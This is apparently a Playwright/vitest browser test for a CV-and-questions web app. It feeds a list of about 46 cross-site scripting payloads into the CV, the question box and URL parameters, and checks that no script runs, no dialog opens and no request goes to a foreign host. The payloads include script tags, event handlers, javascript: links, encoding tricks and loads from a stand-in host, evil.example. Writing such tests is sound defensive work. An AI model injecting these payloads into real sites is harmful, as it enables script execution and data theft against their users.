/** Script in a CV and in questions, in a real browser: nothing runs, nothing opens, nothing is even asked for. */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { describeInBrowser, launch, listeningApp, open } from '../pages/support.ts'

/** Whatever runs leaves a mark in `window.hit`, opens a dialog, or loads from a server that is not there. */
const RUN = 'window.hit=1'
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `![a](x" onerror="${RUN})`,
  `![a](https://evil.example/pixel.png)`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></animate></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body onload="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/y.css";</style>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus onfocus="${RUN}">x</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">CLICK</a>`,
  `[CLICK](javascript:${RUN})`,
  `[CLICK](JaVaScRiPt:${RUN})`,
  `[CLICK](java&#x0A;script:${RUN})`,
  `[CLICK](&#106;avascript:${RUN})`,
  `[CLICK](data:text/html,<script>opener.hit=1</script>)`,
  `[CLICK](vbscript:${RUN})`,
  `<javascript:${RUN}>`,
  `[CLICK]: javascript:${RUN}`,
  `"><script>${RUN}</script>`,
  `'-alert(1)-'`,
  '</script><script>alert(1)</script>',
  '</textarea></title></noscript><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`<img src=x onerror=alert(1)>`',
  `<!--><img src=x onerror="${RUN}">-->`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
]
const CV = [
  `# Eve <img src=x onerror="${RUN}"> Moriarty`,
  `</script><script>${RUN}</script> headline`,
  ...PAYLOADS.map(
    (payload, i) =>
      `## Part ${i} ${payload}\n\n${payload}\n\n- item ${payload}\n\n| ${payload.replaceAll('|', '')} | b |\n|---|---|\n| c${i} | d |`,
  ),
].join('\n\n')

describeInBrowser(`${PAYLOADS.length} payloads`, () => {
  let t: Awaited<ReturnType<typeof listeningApp>>
  let browser: Browser
  beforeAll(async () => {
    ;[t, browser] = await Promise.all([listeningApp({ cv: CV }), launch()])
  }, 240_000)
  afterAll(async () => {
    await browser?.close()
    await t?.close()
  })

  /** A page in which a dialog, a mark of script, a popup or a foreign request is a fault. */
  const watch = async (path: string, options: Parameters<Browser['newContext']>[0] = {}) => {
    const context = await browser.newContext(options)
    const { page, faults } = await open(context, t.url, path)
    page.on('dialog', (dialog) => {
      faults.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
    context.on('page', (other) => faults.push(`opened ${other.url()}`))
    const check = async () => {
      expect(await page.evaluate(() => 'hit' in window)).toBe(false)
      expect(new URL(page.url()).origin).toBe(t.url)
      expect(faults).toEqual([])
    }
    return { context, page, check }
  }

  it('in the CV: the page, and every link in it, stays harmless', async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40)
    const { context, page, check } = await watch('/')
    await page.waitForLoadState('load')
    await check()
    expect(await page.locator('h2').count()).toBeGreaterThanOrEqual(PAYLOADS.length - 2)
    const found = await page.evaluate(() => ({
      links: [...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? ''),
      handlers: [...document.querySelectorAll('*')].flatMap((e) =>
        e.getAttributeNames().filter((n) => n.startsWith('on')),
      ),
      foreign: document.querySelectorAll(
        'main :is(script, iframe, object, embed, style, base, meta, svg image, video, audio)',
      ).length,
    }))
    expect(found.links.filter((href) => /^\s*(?:javascript|data|vbscript):/i.test(href))).toEqual([])
    expect(found.handlers).toEqual([])
    expect(found.foreign).toBe(0)
    for (const link of await page.getByText('CLICK').all())
      await link.click({ timeout: 2_000, noWaitAfter: true }).catch(() => undefined)
    await check()
    await context.close()
  }, 120_000)

  it('in questions: typed, and in the address with and without script', async () => {
    const { context, page, check } = await watch('/')
    for (const payload of PAYLOADS.slice(0, 3)) {
      const before = await page.locator('.turn .actions').count()
      await page.locator('#q').fill(payload)
      await page.keyboard.press('Enter')
      await expect.poll(() => page.locator('.turn .actions').count(), { timeout: 20_000 }).toBe(before + 1)
    }
    await check()
    for (const payload of PAYLOADS) {
      await page.goto(`${t.url}/?q=${encodeURIComponent(payload)}`, { waitUntil: 'load' })
      await check()
    }
    await context.close()
    const plain = await watch('/', { javaScriptEnabled: false })
    for (const payload of PAYLOADS.slice(0, 10)) {
      await plain.page.goto(`${t.url}/?q=${encodeURIComponent(payload)}&prev=${encodeURIComponent(payload)}`)
      expect(
        await plain.page
          .locator('main script:not([type="application/json"]), main iframe, main [onerror], main [onload]')
          .count(),
      ).toBe(0)
    }
    await plain.context.close()
  }, 180_000)
})
